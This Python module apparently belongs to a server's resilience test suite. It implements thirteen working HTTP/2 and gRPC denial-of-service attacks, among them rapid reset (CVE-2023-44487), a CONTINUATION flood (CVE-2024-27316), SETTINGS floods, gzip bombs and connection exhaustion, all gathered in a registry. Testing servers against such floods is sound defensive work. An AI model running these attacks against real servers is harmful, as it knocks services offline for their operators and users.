"""The attacks: each is a function of an address, a path that takes any message, and the seconds that it has."""

import gzip
import itertools
import struct
import threading
from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType
from typing import Final

from tests.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    frame,
    literal,
    message,
    request_headers,
)

Attack = Callable[[str, str, float], None]

_STREAMS: Final = 9_000
_BURST: Final = 63 << 10


def _open(path: str, count: int, *more: bytes) -> Iterator[bytes]:
    block = request_headers(path, *more)
    for number in range(count):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, block)


def settings_over_streams(address: str, path: str, seconds: float) -> None:
    """Open 9,000 streams, then send 63 KiB of empty SETTINGS."""
    _burst(address, path, seconds, frame(SETTINGS, 0, 0))


def windows_over_streams(address: str, path: str, seconds: float) -> None:
    """Open 9,000 streams, then send 63 KiB of WINDOW_UPDATE."""
    _burst(address, path, seconds, frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)))


def _burst(address: str, path: str, seconds: float, one: bytes) -> None:
    peer = Peer(address)
    peer.send(_open(path, _STREAMS), seconds)
    peer.send([one * (_BURST // len(one))], seconds)
    peer.idle(seconds)
    peer.close()


def large_headers(address: str, path: str, seconds: float) -> None:
    """Open 9,900 streams, each with one header of 3.6 KB named 16 times by its index."""
    peer = Peer(address)
    first = request_headers(path, literal("x-large", "x" * 3600, indexed=True))
    again = request_headers(path, b"\xbe" * 16)
    peer.send([frame(HEADERS, END_HEADERS, 1, first)], seconds)
    peer.send((frame(HEADERS, END_HEADERS, 2 * number + 3, again) for number in range(9_900)), seconds)
    peer.idle(seconds)
    peer.close()


def half_messages(address: str, path: str, seconds: float) -> None:
    """Begin 500 messages of 4 MiB and send half of each, whatever windows there are."""
    peer = Peer(address)
    peer.send(_open(path, 500), seconds)
    start = struct.pack(">BL", 0, 4 << 20)
    piece = bytes(16_384)
    for round_ in range(128):
        payload = (b"" if round_ else start) + piece[5:]
        peer.send([frame(DATA, 0, 2 * number + 1, payload) for number in range(500)], seconds)
    peer.idle(seconds)
    peer.close()


def unread_answers(address: str, path: str, seconds: float) -> None:
    """Ask with large observations over wide windows, and never read an answer."""
    peer = Peer(address, wide=True, reads=False)
    block, data = request_headers(path), message(bytes(60_000))
    pieces = [data[start : start + 16_384] for start in range(0, len(data), 16_384)]
    ends = [0] * (len(pieces) - 1) + [END_STREAM]

    def ask(stream: int) -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield from (frame(DATA, end, stream, part) for part, end in zip(pieces, ends, strict=True))

    peer.send((piece for number in range(20_000) for piece in ask(2 * number + 1)), seconds)
    peer.idle(seconds)
    peer.close()


def rapid_reset(address: str, path: str, seconds: float) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""
    block, cancel = request_headers(path), struct.pack(">L", 8)
    numbers = itertools.count(1, 2)
    _repeat(address, seconds, lambda: _pair(block, cancel, next(numbers)))


def _pair(block: bytes, cancel: bytes, stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)


def settings_flood(address: str, path: str, seconds: float) -> None:  # noqa: ARG001
    """Send empty SETTINGS, each of which wants an acknowledgement."""
    _repeat(address, seconds, lambda: frame(SETTINGS, 0, 0))


def empty_continuations(address: str, path: str, seconds: float) -> None:
    """Begin headers, and send empty CONTINUATION frames that never end them (CVE-2024-27316)."""
    first = iter([frame(HEADERS, 0, 1, request_headers(path))])
    _repeat(address, seconds, lambda: next(first, b"") + frame(CONTINUATION, 0, 1))


def empty_data(address: str, path: str, seconds: float) -> None:
    """Open a stream and send empty DATA frames."""
    first = iter([frame(HEADERS, END_HEADERS, 1, request_headers(path))])
    _repeat(address, seconds, lambda: next(first, b"") + frame(DATA, 0, 1))


def _repeat(address: str, seconds: float, make: Callable[[], bytes]) -> None:
    peer = Peer(address)
    peer.send((b"".join(make() for _ in range(512)) for _ in itertools.count()), seconds)
    peer.close()


def silent_connections(address: str, path: str, seconds: float) -> None:  # noqa: ARG001
    """Open 300 connections and say nothing after the preface."""
    peers = []
    for _ in range(300):
        try:
            peers.append(Peer(address))
        except OSError:
            break
    if peers:
        peers[0].idle(seconds)
    for peer in peers:
        peer.close()


def gzip_bombs(address: str, path: str, seconds: float) -> None:
    """Send 100 messages of some KB that unpack to 4 MiB."""
    peer = Peer(address, wide=True)
    bomb = message(gzip.compress(bytes(4 << 20)), packed=True)
    block = request_headers(path, literal("grpc-encoding", "gzip"))
    for number in range(100):
        stream = 2 * number + 1
        peer.send([frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, bomb)], seconds)
    peer.idle(seconds)
    peer.close()


def two_at_once(address: str, path: str, seconds: float) -> None:
    """Send half messages, leave answers unread, reset streams and send SETTINGS, each on a connection, all at once."""
    _at_once(half_messages, unread_answers, rapid_reset, settings_flood, given=(address, path, seconds))


def many_connections(address: str, path: str, seconds: float) -> None:
    """Send empty SETTINGS on 100 connections of one address at once."""
    _at_once(*[settings_flood] * 100, given=(address, path, seconds))


def _at_once(*attacks: Attack, given: tuple[str, str, float]) -> None:
    threads = [threading.Thread(target=attack, args=given) for attack in attacks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        "settings-over-streams": settings_over_streams,
        "windows-over-streams": windows_over_streams,
        "large-headers": large_headers,
        "half-messages": half_messages,
        "unread-answers": unread_answers,
        "rapid-reset": rapid_reset,
        "settings-flood": settings_flood,
        "empty-continuations": empty_continuations,
        "empty-data": empty_data,
        "silent-connections": silent_connections,
        "gzip-bombs": gzip_bombs,
        "two-at-once": two_at_once,
        "many-connections": many_connections,
    }
)
